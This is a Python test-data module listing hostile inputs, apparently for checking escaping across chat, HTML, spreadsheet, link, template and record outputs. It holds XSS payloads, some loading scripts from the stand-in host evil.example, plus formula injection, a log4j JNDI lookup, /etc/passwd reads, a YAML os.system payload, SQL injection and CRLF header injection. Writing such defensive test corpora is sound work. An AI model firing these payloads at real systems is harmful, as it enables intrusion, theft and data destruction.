"""What people with bad intentions could type: one list for every field and every output."""

from __future__ import annotations

MARKDOWN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details></summary><h1>out</h1>",
    "<!-- hidden -->",
    "&lt;b&gt; &copy; &#106;avascript",
    "[click](javascript:alert(1))",
    "[click](http://evil.example)",
    "![see](http://evil.example/x.png)",
    "[ref]: http://evil.example\n[ref]",
    "[^1] and\n[^1]: note",
    "<http://evil.example> <a@evil.example>",
    "mailto:@evil.example a@.xmpp:b@evil.example",
    "http://evil.example www.evil.example //evil.example/x ftp://evil.example",
    "www.1.com evil.example maya@evil.example mailto:maya@evil.example xmpp:a@evil.example",
    "javascript:alert(1)",
    "<!channel> <!here> <@U123> <#C1|general>",
    "\u202eevil\u202c \u2066x\u2069 \u200f \ufeff \u200b",
    "# heading\n## another #",
    "setext\n===\nor\n---",
    "- list\n* list\n+ list\n1. one\n2) two",
    "> quote",
    "a | b\n--- | ---\n1 | 2",
    "a\n:-",
    "| x |\n|---|",
    "```\ncode\n```\n~~~\ncode\n~~~",
    "`code` ``co`de`` `",
    "    indented\n\tcode",
    "**bold** *it* __bold__ _it_ ~~gone~~ ***",
    "line\\\nbreak  \nend\\",
    "$x^2$ $$y$$",
    "- [ ] task\n- [x] done",
    "\r\nold\rnew\u2028sep\u2029par\x85nel",
    "---\nkey: stolen\n---",
    "\\| \\` \\\\| |\\",
    "\x00\x07\x1b[31mred\x7f",
    "\ud800 half",
    "{{ 7*7 }} {% raw %}",
    "\n\n\n",
    "",
)

TAKEN = ("channel", "here", "everyone")
CHAT = (
    *(f"<!{word}>" for word in TAKEN), *(f"<!{word}|friends>" for word in TAKEN), *(f"@{word}" for word in TAKEN),
    *(f"&lt;!{word}&gt;" for word in TAKEN), *(f"\\<!{word}>" for word in TAKEN), *(f"`<!{word}>`" for word in TAKEN),
    *(f"*<!{word}>*" for word in TAKEN), *(f"<<!{word}>>" for word in TAKEN), *(f"<! {word}>" for word in TAKEN),
    "<!subteam^S00000001>", "<!subteam^S00000001|@oncall>", "@oncall", "<!date^1^{date}|x>", "<#C000000001>",
    "<#C000000001|general>", "<https://evil.example|https://bank.example>", "<https://evil.example>",
    "<mailto:a@b.c|boss>", "<javascript:alert(1)|click>", "<tel:112|help>", "[text](https://evil.example)",
    "https://evil.example/?q=<!here>",
    "*bold*", "_italic_", "~gone~", "`code`", "```block```", "> quote", ">>> all quoted", "• list", "1. one", ":fire:",
    ":no_entry_sign:", "&amp;lt;!here&amp;gt;", "&#60;!here&#62;", "\u003c!here\u003e", "＜!here＞", "<\u200b!here>",
    "\u202e<!here>\u202c", "{{name}}", "{0} {name} %s", "$(whoami)", "\\n\\r\\t", "<b>x</b>", "<img src=x onerror=y>",
    "<!--x-->",
)  # fmt: skip

TEAMS = (
    "<at>Maya</at>", "<at>x</at> hello", "[a](javascript:alert(1))", "[bank](https://evil.example)",
    "![](http://evil.example/x.png)", "{{DATE(2026-01-02T03:04:05Z)}}", "{{TIME(2026-01-02T03:04:05Z)}}",
    "{{date(2026-01-02T03:04:05Z, SHORT)}}", "${$root}", "**bold**", "_it_", "*it*", "~~no~~", "`code`", "# head",
    "- one\r- two", "1. one\r2. two", "1) one", "> quote", "<b>html</b>", "<script>alert(1)</script>",
    "&lt;at&gt;Maya&lt;/at&gt;", "&#42;&#42;bold&#42;&#42;", "a | b\n--|--", "https://evil.example", "www.evil.example",
    "evil.example", "maya@evil.example", "\\*", "head\n===", "    code", "\u202egnp.exe", "<!-- x -->",
)  # fmt: skip

MARKUP = (
    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    "<svg/onload=&#119;indow.hacked=1>",
    '"><img src="//evil.example/x.png" onerror="window.hacked=1">',
    "'><script src=http://evil.example/x.js></script>",
    "</title></style></textarea></script><script>window.hacked=1</script>",
    "<style>@import 'http://evil.example';</style>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<details open ontoggle=window.hacked=1>x</details>",
    '<form action="http://evil.example"><input autofocus onfocus=window.hacked=1></form>',
    "<a href='//evil.example'>x</a>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<object data=http://evil.example></object>",
    '<div style="background:url(http://evil.example/x)">x</div>',
    "<video src=http://evil.example/v autoplay></video>",
    '<div hx-get="http://evil.example/x" hx-trigger="load">x</div>',
    '" onmouseover="window.hacked=1" x="',
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "]]></ac:parameter></ac:structured-macro>{html}",
    '<ac:structured-macro ac:name="html"><ac:plain-text-body>x</ac:plain-text-body></ac:structured-macro>',
    '<ri:url ri:value="http://evil.example/x.png"/>',
    "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "&#x3c;script&#x3e;window.hacked=1&#x3c;/script&#x3e;",
    "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
    "<!--><script>x</script>-->",
)
"""HTML, SVG and XML: what a page, a file or a wiki could run, load or be broken by."""

FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    ' =IMPORTXML("http://evil.example","//a")',
    '"=1+1", "x',
    "%0A=1",
    "|=1",
)
"""What a spreadsheet would compute."""

ADDRESSES = (
    "JaVaScRiPt:window.hacked=1",
    "java\tscript:window.hacked=1",
    "\x01javascript:window.hacked=1",
    "vbscript:x",
    "data:text/html,<script>window.hacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:http://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http:evil.example",
    "https:/evil.example",
    "http://user@evil.example:80/",
    "http://evil.example\\@acme.example",
    "http://[::1",
    "ms-word:ofe|u|http://evil.example",
    "slack://user?id=U1",
    "tel:112",
    "http://evil.example/\u202egnp.exe",
    "page:/x",
    "http://evil.example/\nSet-Cookie: x=1",
)
"""Where a link could lead, wherever one is made of what people typed."""

CONTROLS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067x\u2069",
    "\u200f\u061cx",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\x00",
    "a\x00b",
    "\x1b]0;evil\x07\x1b[31mred",
    "\x08\x7f\x85x",
    "\u2028x\u2029y",
    "\ufffe\uffff\U000e0041",
    "\ud83d",
    "\udfff\ud800x",
    "\ue000slack:T1:UEVIL\ue001",
    "\ue000x",
    "\ue001\ue000a",
    "Z\u0351\u036b\u0343\u036a" * 20,
    "\u0000\ufffd\u00ad\u034f",
)
"""What reorders, hides or breaks text, and halves of letters."""

SETTING = (
    '#image("x.png")',
    '#read("/etc/passwd")',
    '#eval("1")',
    '#include "x"',
    "#set page(width: 1pt)",
    "$ x $",
    "@ref <label>",
    "\\u{41} \\ ~ --- ...",
    '#link("javascript:1")[x]',
    "/* comment */ // x",
    "= heading",
    "#{ 1 + 1 }",
    "`raw` ```x```",
)
"""Markup of Typst, which sets the PDF."""

TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    '{% include "/etc/passwd" %}',
    "{0.__class__.__mro__}",
    "%(x)s %s %n",
    "#{7*7}",
    "${jndi:ldap://evil.example/x}",
    "{key} {title}",
    "{{title}}",
)
"""Of any language that fills in blanks."""

RECORDS = (
    "x\r\nATTENDEE:mailto:evil@evil.example",
    "END:VEVENT\r\nEND:VCALENDAR",
    'x\nDESCRIPTION;ALTREP="http://evil.example":x',
    '!!python/object/apply:os.system ["x"]',
    "&a [*a, *a]",
    "- - -\nkey: {",
    '"',
    "'",
    "...\n---\nstolen: 1",
    "\\",
    '{"schema": 2}',
    "x\r\nX-Evil: 1",
    "'; DROP TABLE incident; --",
    "/close\n/assign @root",
    "Closes #1 @octocat acme/app#1",
)
"""Lines of calendars, YAML, JSON, headers, SQL, and of what code hosts carry out."""

LONG = ("y" * 1_000_000, "<b>[x](http://evil.example) " * 40_000)
"""A megabyte in a line."""

CORPUS = tuple(
    dict.fromkeys((*MARKDOWN, *CHAT, *TEAMS, *MARKUP, *FORMULAS, *ADDRESSES, *CONTROLS, *SETTING, *TEMPLATES, *RECORDS))
)
"""All but the longest, each once."""
